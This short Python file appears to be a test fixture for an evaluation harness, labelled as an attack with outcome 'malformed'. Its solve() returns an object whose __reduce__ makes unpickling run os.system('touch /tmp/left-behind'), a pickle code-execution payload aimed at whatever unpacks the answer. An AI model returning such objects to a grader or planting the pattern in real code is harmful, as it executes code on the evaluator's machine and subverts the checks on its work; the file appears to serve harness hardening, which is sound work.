# attack: returns what runs code where it is unpacked
# outcome: malformed
import os


class Unpacked:
    def __reduce__(self):
        return os.system, ("touch /tmp/left-behind",)

    __reduce_ex__ = __getstate__ = __reduce__


def solve(x):
    return Unpacked()
